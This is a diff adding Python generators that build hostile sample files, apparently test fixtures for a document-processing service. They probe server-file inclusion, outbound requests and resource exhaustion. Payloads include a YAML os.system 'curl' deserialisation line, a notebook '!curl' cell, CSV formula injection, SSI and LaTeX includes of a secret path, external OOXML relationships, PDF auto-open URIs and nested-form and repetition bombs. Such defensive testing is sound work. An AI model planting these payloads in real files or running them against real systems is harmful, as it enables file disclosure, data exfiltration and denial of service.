@@ -122,3 +122,92 @@ def files(secret: Path, address: str) -> Iterator[tuple[str, bytes]]:
     yield "torn.pdf", b"%PDF-1.7\n" + b"1 0 obj<</Length 99999999/Filter[/FlateDecode]>>stream\n" * 4_000
     yield "noise.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 800
     yield "..%2fup.md", b"# up"
+    yield from leading_outside(secret, address)
+    yield "often.epub", often_named()
+    yield "forms.pdf", nested_forms()
+    yield (
+        "cells.xlsx",
+        zipped({"[Content_Types].xml": b"", "xl/workbook.xml": b"<workbook><sheets/></workbook>" * 9_000}),
+    )
+    parts = (b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (at, at) for at in range(7_000))
+    yield "parts.eml", b"".join(parts)
+
+
+def leading_outside(secret: Path, address: str) -> Iterator[tuple[str, bytes]]:
+    """Files that name a file of the server, or an address, in every way that their formats have."""
+    names = f"{secret} file://{secret} {address}/plain"
+    texts = {
+        "include.rst": f".. include:: {secret}\n.. raw:: html\n   :url: {address}/rst\n.. image:: {address}/rst-i\n",
+        "include.adoc": f"include::{secret}[]\nimage::{address}/adoc[]\n",
+        "include.tex": f"\\input{{{secret}}}\\include{{{secret}}}",
+        "snippet.md": f'--8<-- "{secret}"\n\n{{{{#include {secret}}}}}\n\n{{% include "{secret}" %}}\n\n{names}\n',
+        "import.mdx": f'import a from "{secret}";\n\n<iframe src="{address}/mdx" />\n\n# text\n',
+        "object.yaml": f'a: !!python/object/apply:os.system ["curl {address}/yaml"]\nb: !include {secret}\n',
+        "server.shtml": f'<!--#include file="{secret}" --><base href="{address}/"><svg><image href="s"/></svg>text',
+        "body.eml": f'Content-Type: message/external-body; access-type=local-file; name="{secret}"\n\n{names}\n',
+        "cell.csv": f'=WEBSERVICE("{address}/csv"),=cmd|a\n@SUM(1),{names}\n',
+        "cells.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": f"!curl {address}/nb", "outputs": [
+            {"output_type": "display_data", "data": {"text/html": f'<img src="{address}/nb-i">'}}]}]}),
+    }  # fmt: skip
+    yield from ((name, text.encode()) for name, text in texts.items())
+    relation = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
+        'TargetMode="External"/></Relationships>'
+    )
+    for suffix, member, kind in (
+        ("docx", "word/_rels/document.xml.rels", "attachedTemplate"),
+        ("pptx", "ppt/_rels/presentation.xml.rels", "image"),
+        ("xlsx", "xl/_rels/workbook.xml.rels", "externalLink"),
+    ):
+        for number, target in enumerate((f"{address}/{suffix}", f"file://{secret}")):
+            yield f"related-{number}.{suffix}", zipped({member: relation.format(kind=kind, target=target).encode()})
+    package = (
+        f'<package><manifest><item id="a" href="{secret}"/><item id="b" href="{address}/epub"/></manifest>'
+        '<spine><itemref idref="a"/><itemref idref="b"/></spine></package>'
+    )
+    container = b'<c><rootfile full-path="b.opf"/></c>'
+    yield "book.epub", zipped({"META-INF/container.xml": container, "b.opf": package.encode()})
+    action = f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({address}/pdf)>>/AF[<</F({secret})>>]>>".encode()
+    yield "action.pdf", pdf_of(action, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R>>")
+
+
+def often_named() -> bytes:
+    """A small book that names its one chapter ten thousand times."""
+    spine = '<itemref idref="a"/>' * 10_000
+    package = f'<package><manifest><item id="a" href="a.xhtml"/></manifest><spine>{spine}</spine></package>'
+    container = b'<c><rootfile full-path="b.opf"/></c>'
+    chapter = b"<p>" + b"word " * 20_000
+    return zipped({"META-INF/container.xml": container, "b.opf": package.encode(), "a.xhtml": chapter})
+
+
+def pdf_of(*objects: bytes) -> bytes:
+    """A file of these objects, the first of which is its root."""
+    content, places = b"%PDF-1.7\n", []
+    for number, each in enumerate(objects, start=1):
+        places.append(len(content))
+        content += b"%d 0 obj\n%b\nendobj\n" % (number, each)
+    table = b"".join(b"%010d 00000 n \n" % place for place in places)
+    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(content))
+    return content + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + end
+
+
+def nested_forms(depth: int = 24) -> bytes:
+    """A page that draws a form twice, which draws another twice, and so on."""
+    font = b"<</Font<</F 5 0 R>>/XObject<</X %d 0 R>>>>"
+    drawn = b"/X Do /X Do "
+    stream = b"/Length %d>>stream\n%b\nendstream"
+    forms = []
+    for level in range(depth):
+        content = drawn if level < depth - 1 else b"BT /F 9 Tf 9 9 Td (again) Tj ET"
+        form = b"<</Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources " + font % (7 + level)
+        forms.append(form + stream % (len(content), content))
+    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources " + font % 6 + b">>"
+    return pdf_of(
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        page,
+        b"<<" + stream % (len(drawn), drawn),
+        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
+        *forms,
+    )
